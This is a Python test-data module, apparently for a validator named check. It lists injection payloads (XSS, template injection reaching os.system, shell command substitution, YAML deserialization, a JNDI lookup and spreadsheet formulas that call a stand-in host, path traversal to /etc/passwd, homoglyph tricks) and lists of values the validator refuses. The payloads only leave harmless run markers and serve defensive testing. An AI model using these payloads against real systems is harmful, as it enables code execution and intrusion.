r"""Values that would run if data were code, and values that `check` refuses.

A payload that is executed leaves a mark: in a browser `window.ran` or a dialog, in a build a file in the folder that
the environment's RAN names. Each holds a sign (§) for a number, so that it can be found again. No dataset here.
"""

from __future__ import annotations

HOST = "elsewhere.example"
# Where a payload that ran in a build leaves a file.
RAN = "RAN"
_TOUCH = "touch $RAN/§"
_OPEN = 'open(__import__("os").environ["RAN"]+"/§","w")'

HTML = (
    "<script>window.ran=§</script>",
    "</script><script>window.ran=§</script>",
    "<img src=x onerror=window.ran=§>",
    '"><img src=x onerror="alert(§)">',
    "x' onmouseover='window.ran=§' y='",
    '" autofocus tabindex=0 onfocus="window.ran=§" x="',
    "<svg/onload=window.ran=§>",
    '<iframe srcdoc="<script>parent.ran=§</script>"></iframe>',
    '<a href="javascript:window.ran=§">go §</a>',
    f'<base href="https://{HOST}/§/">',
    f'<meta http-equiv="refresh" content="0;url=https://{HOST}/§">',
    f"<link rel=stylesheet href=https://{HOST}/§.css>",
    f'<style>@import "https://{HOST}/§";</style>',
    '<object data="data:text/html,<script>parent.ran=§</script>"></object>',
    "!--><script>alert(§)</script><!--",
    "<!--<script>window.ran=§",
    "]]><script>window.ran=§</script>",
    "</title></textarea></style></option><script>window.ran=§</script>",
    "</desc></text></svg><script>window.ran=§</script>",
    "<math><mtext></p><script>window.ran=§</script>",
    f"<form action=https://{HOST}/§><button autofocus>send</button></form>",
    "<details open ontoggle=window.ran=§>",
    "<video><source onerror=window.ran=§></video>",
    "<plaintext>§",
    "<noscript><p title='</noscript><img src=x onerror=window.ran=§>'>",
    "&lt;script&gt;window.ran=§&lt;/script&gt;",
    "&#60;img src=x onerror=window.ran=§&#62; &amp;lt;b&amp;gt; &copy &notit;",
    "سوق <bdi>الجسر</bdi> <script>window.ran=§</script>",
    'سوق" title="الجسر" onclick="window.ran=§',
    "<b dir=rtl>سوق §</b><img dir=x src=x onerror=window.ran=§>",
    "javascript:window.ran=§",
    "JaVaScRiPt:alert(§)//",
    "data:text/html,<script>window.ran=§</script>",
    f"//{HOST}/§",
    f"https://{HOST}/§#:~:text=river,office",
    "file:///etc/passwd?§",
)
SCRIPT = (
    '"}</script><script>window.ran=§</script>',
    f'","@id":"https://{HOST}/§","x":"',
    "\\u003c/script\\u003e §",
    "ends with a backslash § \\",
    "');window.ran=§;('",
    "`${window.ran=§}`",
    "*/window.ran=§/*",
    "{{constructor.constructor('window.ran=§')()}}",
    "${jndi:ldap://elsewhere.example/§}",
    "datum.x§ || alert(§)",
    '{"signal": "alert(§)"}',
    '{"expr": "window.ran = §"}',
    "value[§].x:Q",
    "count():Q §",
    "a\\.b[§]",
    "constructor § __proto__ toString",
    "%s %n %(x)s %§d",
)
MARKUP = (
    "{{ cycler.__init__.__globals__.os.system('" + _TOUCH + "') }}",
    "{{ [].__class__.__base__.__subclasses__() }} §",
    "{% for x in [1,2] %}§{% endfor %}",
    "{{ 7*§ }}",
    "{# hidden § #} {% raw %}",
    "{eval}`" + _OPEN + "`",
    "``` {code-cell} python " + _OPEN,
    "```{code-cell} " + _OPEN,
    "~~~{raw} html <script>window.ran=§</script>",
    "{raw html}`<script>window.ran=§</script>`",
    "`<script>window.ran=§</script>`{=html}",
    ":::{include} /etc/passwd § :::",
    "{download}`/etc/passwd` §",
    "{doc}`../../x§` {ref}`x§` {claim}`no-claim-§` {cite-book}",
    "![x](javascript:window.ran=§)",
    f"![x](https://{HOST}/§.png)",
    "[x](javascript:window.ran=§)",
    f"<https://{HOST}/§>",
    f"[§]: https://{HOST}/§",
    "(label§)= % comment",
    "# heading § #",
    "> quoted §",
    "1. listed §",
    "| a | b § |",
    "$$\\href{javascript:window.ran=§}{x}$$ $x_§$",
    "*** **§** __§__ ~~§~~ `§`",
    "[^§] x[^§] § \"quoted\" -- '§' ... (c)",
    "% comment §",
    ".. include:: /etc/passwd §",
    ".. raw:: html <script>window.ran=§</script>",
    ":raw-html:`<script>window.ran=§</script>`",
    "|sub§| `x <javascript:window.ran=§>`_ x§_ :doc:`x§`",
    "%run x.py §",
    "!" + _TOUCH,
    "%%bash " + _TOUCH,
    "get_ipython().system('" + _TOUCH + "')",
    "'); " + _OPEN + "; ('",
    '"""); ' + _OPEN + '; ("""',
    "\\N{BULLET} \\x27 \\'§",
    "{0.__class__} {self.__init__.__globals__} {§!r}",
    "`" + _TOUCH + "`",
    "$(" + _TOUCH + ")",
    "; " + _TOUCH + " #",
    "| " + _TOUCH,
    "!!python/object/apply:os.system ['" + _TOUCH + "']",
    "&a [*a, *a] §",
)
PLACES = (
    "../../x§",
    "/etc/passwd§",
    "C:\\x§",
    "\\\\elsewhere.example\\x§",
    "CON §",
    "~root/§",
    "%2e%2e%2f§%00",
    "x-,y,-z§&text=other",
    '<!DOCTYPE x [<!ENTITY a "b§">]>',
    "<![CDATA[§]]>",
    '<?xml version="1.0"?>§',
    "'=1+1§",
    '"=1+1§"',
    "x=cmd|' /C calc'!A§",
    'x,"y§",z',
    "1§;2",
)
SIGNS = (
    "Rivеr Оffice §",  # Cyrillic letters
    "River\u200b Of\u2060fi\u00adce §",
    "\ufeffRiver Office §",
    "\u200fRiver Office\u200e §\u061c",
    "＜script＞window.ran=§＜/script＞",
    "Z\u0351\u036b\u0343\u036aa\u0302\u033d\u0368l\u0353\u031cg\u0319\u0350o\u0332\u0354 §",
    "👩\u200d👩\u200d👧 🌊§ \U000e0041\U000e007f",
    "İıſK ﬁ § ß",
    "\ufffd\ufffc §",
    "W" * 300 + "§",
    "<" * 90 + "§",
)
PAYLOADS = (*HTML, *SCRIPT, *MARKUP, *PLACES, *SIGNS)

# What `check` refuses in any text: how it begins, or holds what is no text.
REFUSED_TEXTS = (
    '=HYPERLINK("https://elsewhere.example/","go")', "=cmd|' /C calc'!A0", "+1+1", "-1+1", "@SUM(1)", "＝1+1", "＋1",
    "－1+1", "＠x", " =1+1", "\t=1+1", "x\ty", "x\ry", "x\ny", "x\x1b[31my", "x\x07y", "x\x7fy", "x\x85y", "x\u2028y",
    "x\u2029y", "\u202ex", "x\u202dy\u202c", "x\u202ay", "x\u2066y", "x\u2067y\u2069", "x\u2068y", "x\ufffey",
    "x\uffff", "x\ufdd0", "x\U0001fffe",
)  # fmt: skip
# What is refused as an id, since ids become files, addresses and anchors.
REFUSED_IDS = (
    "../../x", "..", "/etc/x", "C:\\x", "C:x", "a/b", "a\\b", "a.b", "CON", "con", "nul", "aux", "com1", "lpt9",
    "Gazette", "gаzette", "gazette\u200b", "\u202egazette", "gazette ", "g azette", "x", "-x", "1x", "x" * 65, "x%2e",
    "x?y", "x#y", "x&y", "x'y", 'x"y', "<b>", "${x}", "{{x}}", "ｇazette", "__proto__", "javascript:x", "=x",
    "x;y", "x\ny",
)  # fmt: skip
# What is refused in columns that have a rule of their own, by kind.
REFUSED_KINDS = {
    "url": (
        "javascript:window.ran=1", "JAVASCRIPT:x", "data:text/html,<script>alert(1)</script>", "vbscript:x",
        "//x.example", "file:///etc/passwd", "https:x", "https://", "https://x.example/ y", 'https://x.example/"onclick="x',
        "https://x.example/<script>", "https://x.example/'x", "https://x.example/`x`", "https://x.example\\@y",
        " https://x.example/", "https://x.example/\u202ex", "ftp://x.example/", "../x", "https://x.example/\ufffe",
    ),
    "edtf": ("2031-05-07/../../x", "__import__('os')", "<b>2031</b>", "=2031", "2031-05-0７", "2031‐05‐07", "9" * 5000),
    "quantity": ("=12", "12<script>", "1e999", "__import__('os')", "１２", "NaN", "9" * 5000, "12\u202e", ">=12;x"),
    "integer": ("0x1", "1e3", "-1", "１", "9" * 400, "1;2", "=1"),
    "number": ("1e309", "NaN", "inf", "12,5", "=1", "１.5", "0x1", "9" * 400),
    "language": ('en" onclick="x', "<b>", "../en", "e", "еn", "en\u202e"),
    "country": ("USА", "<b>", "usa", "../"),
    "sha256": ("../../etc/passwd", "F" * 64, "0" * 63, "0" * 65),
    "day": ("2031-02-30", "../..", "２０31-05-08", "2031-05-08T00:00", "20310508", "2031-W01-1"),
    "duration": ("P1D<b>", "P" + "1" * 5000 + "X", "PT", "P１D"),
    "term": ("<b>", "__proto__", "constructor", "../x", "=x", "news_report\u200b"),
    "terms": ("<b>", "constructor", "=x", "interviews;=x"),
    "list": ("=1+1", "x;=1+1", "x;@y", ";"),
}  # fmt: skip
